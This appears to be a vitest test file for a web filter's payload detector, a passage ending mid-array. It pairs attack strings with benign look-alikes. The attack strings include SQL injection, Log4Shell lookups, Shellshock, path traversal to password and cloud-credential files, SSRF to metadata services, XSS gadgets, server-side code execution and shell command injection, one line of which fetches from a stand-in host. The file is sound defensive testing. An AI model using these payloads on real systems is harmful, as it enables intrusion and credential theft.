// Payload verdicts (filter/core/payloads.ts): classic payloads recognised by their grammar score 1
// in their class and overall, whatever the model makes of what surrounds them; the benign shapes
// closest to each (SQL quoted in a forum post, code, commands in prose, a site's own paths,
// timestamps and plain URLs) are left to the model.
import { beforeAll, expect } from "vitest";
import { type Core, loadCore } from "../support/core";
import { describeVerdicts } from "../support/verdicts";

let core: Core;
beforeAll(async () => { core = await loadCore(); expect(core.configure("")).toBeNull(); });

type Case = [string, string];

const SQLI: Case[] = [
  ["query", "id=0%20UNION%20SELECT%20AES_DECRYPT(AES_ENCRYPT(CONCAT(0x7873716C,(SELECT%20COLUMN_NAME%20FROM%20INFORMATION_SCHEMA.COLUMNS%20LIMIT%201)),0x71),0x71)"],
  ["query", "uid=999999.9'%09union%0D%0Aall%0D%0Aselect%0D%0A0x3130,0x3130"],
  ["body:form", "q=1)/**/UnIoN/**/(SeLeCt/**/1,2)"],
  ["query", "id=1/*!50000UNION*//*!50000SELECT*/1,2"],
  ["query", "id=-1%20/*!union*/%20/*!select*/%201"],
  ["body:json", JSON.stringify({ id: "x\" union distinct select password from users--" })],
  ["header:Cookie", "remember_me=0%20UNION%20SELECT%20user()"],
  ["path", "/api/v1/users/0%20UNION%20SELECT%201,2"],
  ["query", "id=1%20and%20sleep(5)"],
  ["query", "id=1'%20AND%20BENCHMARK(5000000,MD5(1))--"],
  ["body:form", "q=x'+and+extractvalue(1,concat(0x7e,version()))--"],
  ["query", "id=1;waitfor%20delay%20'0:0:5'--"],
  ["query", "id=1%20AND%20pg_sleep(5)"],
  ["query", "id=1%20or%20pg_sleep(5*2)--"],
  ["query", "id=1%20and%20sleep(0x5)"],
  // A no-break space between the words, as Latin-1 (A0) and as UTF-8 (C2 A0).
  ["query", "id=-1%A0UNION%A0SELECT%A01,2,3"],
  ["body:form", "id=-1%C2%A0union%C2%A0select%C2%A0user()"],
  ["query", "id=1'%A0or%A0'1'='1"],
];
// Stacked statements after a closed value, naming what they act on.
const STACKED_SQLI: Case[] = [
  ["query", "id=1;DROP TABLE users"],
  ["body:json", JSON.stringify({ uid: "123);drop table sessions--" })],
  ["query", "q=x');INSERT INTO admins VALUES(1)--"],
  ["query", "id=0; EXEC xp_cmdshell 'dir'"],
  ["query", "id=7;shutdown--"],
  ["query", "id=1;delete from users where 1=1--"],
  ["query", "id=1';drop table if exists `app`.`users`#"],
  ["query", "id=1;select 1,2,3--"],
  ["body:form", "n=1%22%3Bselect+count(*)+from+pg_user--"],
  // MySQL's modifiers before what the statement acts on.
  ["body:form", "filter=1;%20delete%20ignore%20from%20foo&submit=Send"],
  ["query", "id=1;insert low_priority ignore into t values(1)--"],
  // A schema read to find the tables to dump; a table renamed; a UDF loaded from a library (MySQL).
  ["query", "id=1;desc users"],
  ["body:json", JSON.stringify({ name: "x'; show columns from users#" })],
  ["query", "id=1; show databases--"],
  ["body:form", "id=1%3Buse+mysql"],
  ["query", "id=1; rename table users to x"],
  ["body:json", JSON.stringify({ id: "1; create function sys_eval returns string soname 'udf.dll'" })],
];
const NOT_STACKED_SQLI: Case[] = [
  ["query", "q=" + encodeURIComponent("1; describe the problem")],
  ["body:json", JSON.stringify({ note: "Size 3; use cold water" })],
  ["body:json", JSON.stringify({ note: "2; show tables and chairs" })],
  ["body:json", JSON.stringify({ note: "- Replace url.parse() with new URL(); use urlToHttpOptions() in lib/run.js" })],
  ["body:json", JSON.stringify({ d: "1; exec will create the case" })],
  ["body:json", JSON.stringify({ d: "step 1; delete ignore from the list the ones you skip" })],
  ["body:json", JSON.stringify({ sql: "SELECT 1; DROP TABLE tmp;" })],
  ["body:json", JSON.stringify({ sql: "-- cleanup\n/* nightly */ SELECT 1; DROP TABLE tmp;" })],
  ["query", "q=step 2; update the table"],
  ["body:json", JSON.stringify({ note: "Step 1; delete from the cart the items you do not need" })],
  ["body:json", JSON.stringify({ note: "Option 1; insert into the slot the card" })],
  ["query", "q=choose 1; select 2 items"],
  ["query", "q=step 1; drop table lamps in the box"],
  ["body:form", "css=a{color:red}%3Bselect%7Bwidth:1px%7D"],
];

// A name, the quote that closes its string and a comment to the query's end (sqlverdict.ts
// quoteThenComment), at a value's start or a sentence's.
const LOGIN_BYPASS: Case[] = [
  ["body:form", "username=admin%27--&password=x"],
  ["body:form", "user=admin'+%23&pass=x"],
  ["query", "u=admin'/*"],
  ["query", "u=admin'/**/--"],
  ["body:json", JSON.stringify({ note: "Nice shop. admin'-- Ordered twice." })],
  // Every blank of the value an empty comment, the sentence's too.
  ["body:json", JSON.stringify({ note: "Nice/**/shop./**/admin'--/**/Ordered/**/twice." })],
];
const NOT_LOGIN_BYPASS: Case[] = [
  ["body:form", "name=O'Brien&city=Cork"],
  ["body:json", JSON.stringify({ t: "don't-- really, it's-- fine" })],
  ["body:json", JSON.stringify({ t: "rock'n'roll-- forever" })],
  ["body:json", JSON.stringify({ t: "Joe's#1 fan" })],
];

const PROBE_SQLI: Case[] = [
  ["query", "id=1 AND DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5)=1"],
  ["query", "id=1 PROCEDURE ANALYSE()"],
  ["query", "id=1 procedure/**/analyse()"],
];
const NOT_PROBE_SQLI: Case[] = [
  ["body:json", JSON.stringify({ doc: "Run analyse() on the data, then the procedure." })],
  ["body:json", JSON.stringify({ code: "queue.receive_message(timeout=5)" })],
  // A delay call whose argument is no number alone: prose.
  ["body:form", "review=" + encodeURIComponent("sleep(8 hours) is the goal")],
];

const NOT_SQLI: Case[] = [
  ["body:form", "post=" + encodeURIComponent("How do I speed up this query?\n\nSELECT a.id FROM a UNION SELECT b.id FROM b;")],
  ["query", "q=trade+union+selection+committee"],
  ["query", "q=credit+union"],
  ["query", "q=Caf%E9%A0menu%A0union%A0select%A0wines"],
  ["body:json", JSON.stringify({ code: "await sleep(500)" })],
  ["body:json", JSON.stringify({ code: "import time\ntime.sleep(5)" })],
];

const JNDI: Case[] = [
  ["header:User-Agent", "${jNdI:ldAp://x.dnslog.cn/a}"],
  ["header:X-Api-Version", "${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}"],
  ["header:Referer", "https://example.com/?q=${${lower:J}ndi:ldap://x.example/a}"],
  ["query", "q=${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x.example/a}"],
  ["body:form", "name=%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D"],
  // A base64: lookup, read as its decoding (`${jndi:ldap://x}`; `di`; `d` unpadded).
  ["header:User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0 ${${base64:JHtqbmRpOmxkYXA6Ly94fQ==}}"],
  ["query", "q=" + encodeURIComponent("${jn${base64:ZGk=}:ldap://x.example/a}")],
  ["body:json", JSON.stringify({ q: "${jn${base64:ZA}i:rmi://x.example/a}" })],
];
const NOT_JNDI: Case[] = [
  ["query", "gdpr=${GDPR}&consent=${GDPR_CONSENT}"],
  ["body:json", JSON.stringify({ tpl: "${base64:aGVsbG8gd29ybGQ=} and ${base64:JHtqbmRp}" })],
  ["body:json", JSON.stringify({ tpl: "Hello ${name}, you have ${count} messages" })],
  ["body:json", JSON.stringify({ doc: "the jndi: prefix names a JNDI lookup" })],
];

const SHELLSHOCK: Case[] = [
  ["header:User-Agent", "() { :;}; /bin/bash -c \"id\""],
  ["header:Referer", "() { _; } >_[$($())] { echo hi; }"],
  ["header:Cookie", "x=() { :; }; echo vulnerable"],
];
const SSI: Case[] = [
  ["query", "q=%3C!--%23exec%20cmd%3D%22id%22%20--%3E"],
  ["body:form", "name=%3C!--%23include%20virtual%3D%22%2Fetc%2Fpasswd%22%20--%3E"],
  ["body:json", JSON.stringify({ comment: "<!--#echo var=\"DOCUMENT_ROOT\" -->" })],
  // ESI elements, which a caching proxy that processes Edge Side Includes runs (core/ssi.ts esiElement).
  ["body:form", "name=%3Cesi%3Ainclude%20src%3D%22http%3A%2F%2Fevil.example%2F%22%2F%3E"],
  ["query", "q=%3Cesi%3Avars%3E%24(HTTP_COOKIE)%3C%2Fesi%3Avars%3E"],
  ["query", "q=%3CESI%3AInclude%0Asrc%3D%22%2F%2Fevil.example%22%3E"],
  ["body:json", JSON.stringify({ bio: "<esi:debug/>" })],
];
const NOT_SSI: Case[] = [
  ["body:json", JSON.stringify({ html: "<p>Hello</p><!-- note for editors -->" })],
  ["body:json", JSON.stringify({ html: "<a href=\"#top\">top</a><!--#main-->" })],
  ["query", "q=esi%20include%20tags"],
  ["body:json", JSON.stringify({ html: "<esimated>1</esimated><esi:unknown/>" })],
];
const NOT_SHELLSHOCK: Case[] = [
  ["body:json", JSON.stringify({ code: "class A { render() { return 1; } }" })],
  ["body:json", JSON.stringify({ code: "const f = () => {};" })],
  ["body:json", JSON.stringify({ code: "x = function () { return 1; }" })],
];

const OS_FILE: Case[] = [
  ["query", "file=/etc/passwd"],
  ["query", "page=..%2f..%2f..%2fetc%2fpasswd%00"],
  ["query", "doc=C:%5CWindows%5Cwin.ini"],
  ["body:form", "f=WEB-INF/web.xml"],
  ["query", "template=/opt/lampp/logs/error_log"],
  ["query", "p=..%5C..%5Cboot.ini"],
  ["header:Cookie", "lang=/var/log/apache2/access.log"],
  ["body:json", JSON.stringify({ include: "/proc/self/environ" })],
  ["path", "/static/..%2f..%2f..%2fetc/shadow"],
  // The rest of CRS's names under /etc/ and /proc/, and a shell's history and start-up files.
  ["query", "sort=name&debug=1&doc=/etc/init.d/apache"],
  ["query", "f=..%2F..%2Fetc%2Fresolv.conf"],
  ["body:json", JSON.stringify({ path: "/proc/version" })],
  ["query", "log=/var/adm/messages"],
  ["query", "f=/home/admin/.bashrc"],
  ["query", "f=../../root/.mysql_history"],
  // The cloud, container and git clients' credentials.
  ["query", "f=" + encodeURIComponent("~/.aws/credentials")],
  ["body:json", JSON.stringify({ path: "/home/ubuntu/.kube/config" })],
  ["body:form", "file=" + encodeURIComponent("/root/.docker/config.json")],
  ["query", "f=" + encodeURIComponent("../../.git-credentials")],
];
const NOT_OS_FILE: Case[] = [
  ["body:json", JSON.stringify({ text: "put your keys in ~/.aws/credentials and run it" })],
  ["query", "f=" + encodeURIComponent(".aws/credentials")],
  ["body:form", "post=" + encodeURIComponent("Step 2: run tail -f /var/log/syslog then restart")],
  ["query", "p=%2FWEB-INF%2Fmaster.jsp"],
  ["path", "/collections/windows/products/chair"],
  ["path", "/etc/hosts-file-guide"],
  ["query", "log=error.log"],
  ["header:Referer", "https://example.com/etc/passwd-reset"],
  // A name of CRS's list as the start of a longer one, or a dot file's in prose.
  ["body:json", JSON.stringify({ config: "/etc/defaults.json" })],
  ["query", "p=/proc/versions-list"],
  ["body:form", "note=" + encodeURIComponent("edit your .bashrc and restart")],
];

// A string decoded at run time and run as script; JSFuck (jsdecode.ts).
const DECODED_SCRIPT: Case[] = [
  ["query", "x=eval(String.fromCharCode(97,108,101,114,116,40,49,41))"],
  ["body:json", JSON.stringify({ bio: "setTimeout(atob('YWxlcnQoMSk='))" })],
  ["query", "q=%22%3Beval(unescape(%27%61%6c%65%72%74%28%31%29%27))%2F%2F"],
  ["body:form", "c=window.eval(window.decodeURIComponent('%2561lert(1)'))"],
  // document.write of a decoded string; the page's URL or window name run as script (DOM-based XSS).
  ["query", "q=document.write(String.fromCharCode(60,115,99,114,105,112,116,62))"],
  ["query", "q=eval(location.hash.slice(1))"],
  ["body:json", JSON.stringify({ x: "setTimeout(location.search.substr(1))" })],
  ["query", "q=eval(name)"],
];
const NOT_DECODED_SCRIPT: Case[] = [
  ["body:json", JSON.stringify({ code: "const s = String.fromCharCode(65); log(atob(data));" })],
  ["body:json", JSON.stringify({ doc: "Never call eval() on input; use JSON.parse(atob(token)) instead." })],
  // A site's code: a function's parameters, the URL written into the page, a timer that reloads it.
  ["body:json", JSON.stringify({ code: "var f = function(location) { return location.hash; }; g = Function(name);" })],
  ["body:json", JSON.stringify({ code: "document.write(location.href); setTimeout(function(){ location.reload(); }, 1000)" })],
  ["body:json", JSON.stringify({ code: "console.write(atob(s)); eval(locationData); setTimeout(names)" })],
];
const JSFUCK: Case[] = [
  ["body:form", "x=" + encodeURIComponent("[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]()")],
  ["query", "x=[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]()"],
];
const NOT_JSFUCK: Case[] = [
  ["body:json", JSON.stringify({ grid: [[], [], [], []], note: "(empty) [] + [] !" })],
  ["body:json", JSON.stringify({ js: "const ok = !![] && items.concat([]);" })],
];
// PHP-CGI's argument injection (phpconfig.ts).
const PHP_CONFIG: Case[] = [
  ["query", "-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input"],
  ["query", "%ADd+allow_url_include%3D1+%ADd+auto_prepend_file%3Dphp://input"],
  ["query", "x=%2Dd%20safe_mode%3D0"],
];
const NOT_PHP_CONFIG: Case[] = [
  ["query", "q=allow_url_include"],
  ["query", "next=%2Fsettings%3Ftab%3Dsecurity%26auto_save%3D1"],
  ["body:form", "ini=" + encodeURIComponent("allow_url_include=0")],
];

// A `..` and a separator one of which is written as only a lenient decoder or a traversal list writes it (lenient.ts).
const LENIENT_TRAVERSAL: Case[] = [
  ["query", "f=..%c0%2f..%c0%2fetc%c0%2fissue"],
  ["query", "f=%c0%2e%c0%2e/%c0%2e%c0%2e/boot.ini"],
  ["body:form", "f=..%c1%1c..%c1%1cwindows%c1%1cwin.ini"],
  ["query", "f=..%u2215..%u2215x"],
  ["path", "/scripts/..%c0%2f..%c0%2fwinnt/system32/cmd.exe"],
  ["query", "f=%25c0%252e%25c0%252e%252fx"],
  // As dotdotpwn writes them (CRS 930100 reads the same table): its bit flips of C0 AE, IIS's hex
  // after a lead byte, a double encoding's '%' left standing, IIS's %bg%qf, the one-dot leader and
  // U+EFC8, and 0x5c beside overlong dots.
  ["query", "f=%c0%fe%c0%fe%5c%c0%fe%c0%fe%5capp.config"],
  ["path", "/files/%c0%2e%c0%2e%c0%qfetc%c0%qfpasswd"],
  ["query", "f=..%c1%8s..%c1%8sboot.ini"],
  ["query", "f=.?%c0%9v.?%c0%9vetc%c0%9vissue"],
  ["query", "f=%%32%%65%%32%%65%%35%%63windows"],
  ["query", "f=..%25bg%25qfboot.ini"],
  ["query", "f=%u2024%u2024/%u2024%u2024/app.yml"],
  ["query", "f=..%uEFC8..%uEFC8etc%uEFC8issue"],
  ["query", "f=%c0%ae%c0%ae0x5cwindows0x5cwin.ini"],
];
const NOT_LENIENT_TRAVERSAL: Case[] = [
  ["query", "f=a%c0%2fb"],
  ["query", "f=%u2215tmp"],
  ["query", "ratio=" + encodeURIComponent("1 ∕ 2 and a ∖ b")],
  // Plain dots and slashes in a text a '%' flags, and 0x2e alone.
  ["query", "q=" + encodeURIComponent("really?./ 50% off")],
  ["query", "bytes=0x2e0x2f%zz"],
  // The same in a header is no file argument.
  ["header:Referer", "https://example.com/..%c0%2fx"],
];

// A URL whose host is an IPv4 address spelled to pass a filter, or hidden behind user info or
// extra slashes.
const IP_HOST: Case[] = [
  // The metadata services by name.
  ["query", "url=" + encodeURIComponent("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token")],
  ["body:json", JSON.stringify({ webhook: "http://instance-data/latest/meta-data/iam/security-credentials/" })],
  ["query", "u=" + encodeURIComponent("http://[fd00:ec2::254]/latest/meta-data/")],
  ["query", "url=http://0x7f000001/"],
  ["query", "next=http://3627734734/"],
  ["query", "redirect=//0177.0.0.1/admin"],
  ["query", "u=http://evil@0xd83ad6ce"],
  ["body:form", "r=http:00330.0x3a.54990"],
  // Loopback's short forms: 127.0.0.1 with its zero parts left out.
  ["query", "url=http://127.1/admin"],
  ["body:json", JSON.stringify({ webhook: "https://127.0.1:8443/" })],
  // User info with a password, and a port: the host is what lies between them.
  ["body:json", '{"note":"see http://user:pass@0x7f000001:8080/admin"}'],
  ["path", "/fetch/http://a:b@2130706433/"],
  // User info the other forms cannot read past: no slashes after the scheme, a backslash in it.
  ["query", "next=http:trusted.example@0x7f.1"],
  ["body:json", '{"r":"http://a\\\\b@2130706433/"}'],
  ["query", "u=//a@2130706433/"],
  ["query", "u=/\\a@2130706433/"],
  // A host hidden behind user info or extra slashes.
  ["query", "returnTo=//www.whitelisteddomain.tld@google.com//"],
  ["query", "next=https://trusted.example@evil.com/"],
  ["query", "next=http://localhost@evil.com/"],
  ["query", "next=https://:@evil.com/"],
  ["query", "goto=///\\;@example.com"],
  ["query", "r=///evil.com/"],
  ["body:form", "r=/%5Cevil.com"],
  // In a path (a route that redirects to its last segment): three slashes, or a backslash.
  ["path", "/out///attacker.example/"],
  ["path", "/redirect/%5Cevil.example"],
  // A cloud's instance metadata service or this host, written plainly, in a value.
  ["query", "url=http://169.254.169.254/latest/meta-data/iam/security-credentials/"],
  ["query", "u=http://169.254.170.2/v2/credentials/x"],
  ["body:form", "endpoint=http%3A%2F%2F100.100.100.200%2Flatest%2Fmeta-data"],
  // A lone 0: 0.0.0.0, this host to Linux.
  ["query", "feed=http://0:9000/"],
  ["body:json", JSON.stringify({ uri: "https://0/admin" })],
  // This host as an IPv6 literal (numerichost.ts internalIpv6): loopback however many zeros are
  // written, unspecified, IPv4 mapped or compatible, NAT64.
  ["query", "url=http://[::1]/"],
  ["query", "url=http://[0:0:0:0:0:0:0:1]:8080/admin"],
  ["query", "url=http://[0000::0001]/"],
  ["query", "url=http://[::]:80/"],
  ["query", "u=" + encodeURIComponent("http://[::ffff:127.0.0.1]/")],
  ["body:json", JSON.stringify({ callback: "http://[::ffff:a9fe:a9fe]/latest/meta-data/" })],
  ["query", "url=http://trusted.example@[::127.0.0.1]/"],
  ["query", "url=http://[64:ff9b::7f00:1]/"],
];
const NOT_IP_HOST: Case[] = [
  ["query", "url=" + encodeURIComponent("https://metadata.google.internal.example.com/docs")],
  ["query", "url=" + encodeURIComponent("https://instance-data-viewer.example.com/")],
  // A Referer from a developer's own machine; a private address in a value.
  ["header:Referer", "http://0.0.0.0:8080/login"],
  ["query", "url=http://10.0.0.5:8080/"],
  ["query", "url=http://10.1/"],
  ["query", "v=" + encodeURIComponent("http://127.0.0.1:3000/callback")],
  ["query", "v=169.254.169.254"],
  // A device's link-local address, a service's bind address.
  ["body:json", '{"url":"http://169.254.1.10/printer/status"}'],
  ["body:json", '{"listen":"http://0.0.0.0:8080/health"}'],
  ["query", "url=https://192.168.1.10/"],
  // Link-local and unique local IPv6 addresses, as private IPv4 ones, and a global literal; malformed ones.
  ["query", "url=http://[fe80::1%25eth0]/"],
  ["body:form", "webhook=http%3A%2F%2F%5Bfd12%3A3456%3A789a%3A1%3A%3A1%5D%2F"],
  ["query", "url=http://[2001:db8::1]/"],
  ["query", "url=" + encodeURIComponent("https://[2606:4700:4700::1111]/dns-query")],
  ["query", "url=http://[1:2:3:4:5:6:7:8:9]/"],
  ["query", "url=http://[::1"],
  ["query", "url=http://[1::2::3]/"],
  ["query", "url=https://example.com/2024/01"],
  ["query", "t=12:30:45"],
  ["query", "v=//cdn.example.com/x.js"],
  ["query", "u=https://20241130.example.com/"],
  ["query", "next=/account/settings"],
  ["query", "img=https://cdn.example.com/icons/logo@2x.png"],
  ["query", "email=john@example.com"],
  ["query", "mail=wang@163.com&pkg=lodash@4.17.21&ip=admin@10.0.0.1"],
  ["body:json", JSON.stringify({ chat: "see you @20241204 at noon", handle: "@3627734734" })],
  // A model's version in a path (Vertex AI's publisher models): one '/' before the '@' is a path's, not an authority.
  ["path", "/v1/projects/p-472418/locations/us-east5/publishers/anthropic/models/claude-3-7-sonnet@20250219:rawPredict"],
  ["path", "/v1/models/gemini@001:predict"],
  ["query", "next=/models/claude@20250219"],
  ["query", "u=https://us-east5-aiplatform.googleapis.com/v1/publishers/anthropic/models/claude-3-7-sonnet@20250219:rawPredict"],
  ["body:json", '{"note":"see http://user:pass@example.com:8080/admin"}'],
  // A user's name before the host hides none (git remotes of Azure DevOps, a token as password).
  ["body:json", '{"remoteUrl":"https://builder0376@dev.azure.com/builder0376/Project/_git/repo"}'],
  ["query", "remote=https://ci-bot:ghp_abc123@github.com/org/repo.git"],
  ["path", "///static/app.js"],
  ["path", "/assets///logo.svg"],
  ["path", "/fetch/https://cdn.example.com/lib.js"],
  // A lone 0 elsewhere: in base64, after no scheme, in a header.
  ["query", "b=ab//0/cd"],
  ["query", "v=http:0"],
  ["header:Referer", "http://0:8080/login"],
];

// A path that names a file of secrets or a repository's metadata (osfiles.ts namesSecretFile).
const SECRET_FILE: Case[] = [
  ["path", "/.env"],
  ["path", "/api/.env.production"],
  ["path", "/.git/HEAD"],
  ["path", "/static/.DS_Store"],
  ["path", "/home/.aws/credentials"],
  ["path", "/%2essh/authorized_keys"],
  ["path", "/index.php.bak"],
  ["path", "/wp-config.php~"],
  ["path", "/db/backup.SQL"],
  ["path", "/.config.php.swp"],
];
const NOT_SECRET_FILE: Case[] = [
  ["path", "/.well-known/security.txt"],
  ["path", "/docs/.gitignore-guide"],
  ["path", "/blog/git/config-tips"],
  ["path", "/envelopes/.environment"],
  ["query", "file=.env"],
  ["path", "/~alice/notes.html"],
  ["path", "/blog/.old"],
  ["path", "/api/sql/queries"],
  ["query", "f=backup.sql"],
];

// A PHP stream wrapper's URL as a value (phpwrapper.ts): rce for those that run or build code,
// traversal for those that read a file.
const WRAPPER_RCE: Case[] = [
  ["query", "page=expect://ls"],
  ["body:form", "f=phar%3A%2F%2F.%2Fuploads%2Favatar.gif%2Fx"],
  ["body:json", '{"src":"data://text/plain;base64,SGVsbG8="}'],
  ["query", "in=php://input"],
];
const WRAPPER_READ: Case[] = [
  ["query", "view=php://filter/read=string.rot13/resource=config.php"],
  ["query", "f=zip://uploads/a.zip%23shell.php"],
  ["query", "f=compress.zlib:///var/www/index.php"],
];
const NOT_WRAPPER: Case[] = [
  ["query", "img=data:image/png;base64,iVBORw0KGgo="],
  ["query", "doc=see php://filter in the manual"],
  ["query", "u=https://php.net/manual/en/wrappers.php.php"],
];

// The Function constructor reached through a constructor's constructor (sandboxescape.ts): the
// class is whichever of rce, ssti, xss and nosqli the model scored highest.
const SANDBOX_ESCAPE: Case[] = [
  ["query", "x=this.constructor.constructor('return process')()"],
  ["body:json", JSON.stringify({ $where: "this.constructor.constructor(\"return this\")()" })],
  ["query", "q={{constructor.constructor('alert(1)')()}}"],
  ["query", "t=[]['constructor'] ['constructor']('return 1')()"],
];
const NOT_SANDBOX_ESCAPE: Case[] = [
  ["body:json", JSON.stringify({ code: "class A extends B { constructor(x) { super(x); this.x = x; } }" })],
  ["query", "q=obj.constructor(1)"],
  ["body:json", JSON.stringify({ doc: "instanceconstructor.constructor(a)" })],
];

// Java's process API called by name (javaexec.ts).
const JAVA_EXEC: Case[] = [
  ["query", "x=T(java.lang.Runtime).getRuntime().exec('id')"],
  ["query", "x=new java.lang.ProcessBuilder(\"id\").start()"],
  ["body:json", JSON.stringify({ name: "${''.getClass().forName('java.lang.Runtime').getRuntime() . exec ('id')}" })],
  // A class that runs code, loaded by its name.
  ["query", "x=" + encodeURIComponent('java.lang.Class.forName("java.lang.Runtime")')],
  ["body:json", JSON.stringify({ q: "#{request.getClass().getClassLoader().loadClass('javax.script.ScriptEngineManager').newInstance()}" })],
  ["body:form", "expr=" + encodeURIComponent("T(java.lang.Class).forName( 'javax.naming.InitialContext' )")],
];
const NOT_JAVA_EXEC: Case[] = [
  ["body:json", JSON.stringify({ t: "new ProcessBuilderFactory()" })],
  ["body:json", JSON.stringify({ d: "getRuntime() returns the runtime of the JVM" })],
  ["body:json", JSON.stringify({ code: 'Class.forName("com.mysql.cj.jdbc.Driver");\nClass.forName("java.lang.RuntimeException");' })],
];
// .NET's process API by its full name (dotnetexec.ts): a Razor template's or a C# expression's.
const DOTNET_EXEC: Case[] = [
  ["query", "name=" + encodeURIComponent('@System.Diagnostics.Process.Start("cmd.exe","/c calc")')],
  ["body:form", "tpl=" + encodeURIComponent('@{ System.Diagnostics.Process.Start("cmd.exe", "/c whoami"); }')],
  ["body:json", JSON.stringify({ expr: 'global::System . Diagnostics . Process . Start ( "calc" )' })],
];
const NOT_DOTNET_EXEC: Case[] = [
  ["body:json", JSON.stringify({ code: 'using System.Diagnostics;\nvar p = Process.Start("notepad.exe");' })],
  ["body:json", JSON.stringify({ t: "MySystem.Diagnostics.Process.Start(1) and System.Diagnostics.ProcessStart(2)" })],
];

// Struts' OGNL (ognl.ts): a context variable at an expression's start, or a static call by class.
const OGNL: Case[] = [
  ["query", "x=%25%7B%23context%5B%27xwork.MethodAccessor.denyMethodExecution%27%5D%3Dfalse%7D"],
  ["header:Content-Type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"],
  ["query", "redirect:%25%7B%40java.lang.System%40getProperty(%27user.dir%27)%7D"],
  ["body:json", JSON.stringify({ q: "%{ ( #ct=#request['struts.valueStack'].context)}" })],
  // The guards Struts' payloads switch off, bare in a value.
  ["query", "x=" + encodeURIComponent('(#context["xwork.MethodAccessor.denyMethodExecution"]=false)')],
  ["query", "method:" + encodeURIComponent("#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,#a=1") + "=x"],
];
const NOT_OGNL: Case[] = [
  ["body:json", JSON.stringify({ href: "/docs/menus#context-menu", css: "a{color:#fff}" })],
  ["query", "q=see%20%23context%20in%20the%20docs"],
  ["body:json", JSON.stringify({ code: "puts \"#{name} has ${#} items\"" })],
  ["body:json", JSON.stringify({ msg: "cc @ops.team@example(today)" })],
  ["body:json", JSON.stringify({ note: "#context[0] and #_member of the docs" })],
];

// Node's module loader reached from injected code (nodeexec.ts).
const NODE_EXEC: Case[] = [
  ["query", "q=process.mainModule.require(%22child_process%22).execSync(%22id%22)"],
  ["body:json", JSON.stringify({ x: "global.process.mainModule.constructor._load('child_process').exec('id')" })],
  ["query", "q=require(%27child_process%27).exec(%27id%27)"],
  ["body:json", JSON.stringify({ rce: "_$$ND_FUNC$$_function(){require('child_process').exec('ls')}()" })],
];
const NOT_NODE_EXEC: Case[] = [
  ["body:json", JSON.stringify({ code: "const fs = require('fs'); fs.readFileSync(path)" })],
  ["body:json", JSON.stringify({ code: "module.require('./util'); proc.exec(cmd)" })],
];

// A dialog opened without writing its call (jsgadget.ts): xss.
const DIALOG_GADGET: Case[] = [
  ["query", "q=alert.apply(null,[1])"],
  ["query", "q=prompt.call(null,document.domain)"],
  ["body:json", JSON.stringify({ q: "[1].map(alert)" })],
  ["query", "q=Reflect.apply(confirm,null,[1])"],
  ["query", "q=(0,alert)(1)"],
  ["query", "q=top%5B%2Fal%2F.source%2B%2Fert%2F.source%5D(1)"],
  ["body:form", "q=self%5B%27con%27%2B%27firm%27%5D(1)"],
  // A global's member named by a string decoded at run time.
  ["query", "q=top[atob(%22Y29uZmlybQ%22)](document.domain)"],
  ["body:json", JSON.stringify({ c: "window[String.fromCharCode(97,108,101,114,116)](1)" })],
  // A dialog called after a string the text closes without opening it.
  ["query", "msg=%27%3Bconfirm(%27XSS%27)%2F%2F1491b2as"],
  ["body:json", JSON.stringify({ name: "\";confirm(1);//" })],
  ["header:User-Agent", "Mozilla/5.0 (Windows NT 6.1; rv:40.0) Gecko/20100101 Firefox/40.1');confirm(/XSS/);//"],
  ["query", "prod=';prompt%60document.domain%60;//"],
];
const NOT_DIALOG_GADGET: Case[] = [
  // A script's own string, closed where it opened, then a dialog: a site's code.
  ["body:json", JSON.stringify({ code: "var s = 'Saved'; confirm(s); var t = \"a\" + prompt(t)" })],
  ["body:json", JSON.stringify({ md: "Use `alert` and `prompt` sparingly: 'a'; alert `x` is a tag" })],
  ["query", "q=notify%20(alert)%20and%20wait"],
  ["body:json", JSON.stringify({ code: "levels.map(alertLevel); fn.call(this, alert)" })],
  ["body:json", JSON.stringify({ code: "window[\"gtag\"]('config', id)" })],
  ["body:json", JSON.stringify({ code: "const fn = window[atob(name)]; data[atob(k)](v); self[key](1)" })],
];

// A value that opens with a shell's command separator and then a command (cmdinject.ts).
const COMMAND_INJECTION: Case[] = [
  ["query", "name=;+systeminfo"],
  ["query", "exec=%7C+ipconfig+/all"],
  ["body:form", "ip=%26%26+ls+-l+%2Fhome%2F*"],
  ["header:X-Forwarded-For", "| ipconfig /all"],
  ["query", "host=%0Aid"],
  ["body:json", '{"host":"\\ncat /etc/passwd"}'],
  ["query", "q=$(whoami)"],
  ["query", "q=`id`"],
  ["query", "cmd=;/usr/bin/id"],
  ["body:form", "c=%3B+c%27%27at+%2Fetc%2Fpasswd"],
  ["query", "run=|+type+C:%5CWindows%5Crepair%5CSAM"],
  ["query", "q=|id|"],
  ["query", "q=;sleep+5"],
  // A command that is also a word, then a file's name (cmdinject.ts fileNameEnd).
  ["query", "q=;cat+flag.txt"],
  ["query", "q=$(cat+flag.txt)"],
  ["query", "q=|more+config.php"],
  ["body:json", JSON.stringify({ f: "& type boot.ini" })],
  // A program run from the shell's directory, whatever its name (cmdinject.ts relativeProgramEnd).
  ["query", "cmd=;./exploit"],
  ["query", "ip=8.8.8.8|./backdoor+-p+4444"],
  ["query", "ip=1.1.1.1%20%26%26%20./x.sh"],
  // After the argument a command line was built around, or a quote that closes it.
  ["body:form", "logtype=XML&timezone=1%3Bwget+http%3A%2F%2Foast.example%3B"],
  ["query", "ip=127.0.0.1;id"],
  ["body:json", JSON.stringify({ conf: { message: "\"; cat /etc/hostname #" } })],
  ["query", "host=example.com';sleep+5;'"],
  // cmd.exe's carets inside a command's name.
  ["query", "x=;w^h^o^a^m^i"],
  ["query", "x=|c^m^d+/c+dir"],
  // The same words with an operand, on the next line too (payload lists' line-break bypass).
  ["query", "kw=sport;cat+/etc/passwd"],
  ["query", "host=|%0A%09type%0A%09%25SYSTEMROOT%25\\repair\\SAM"],
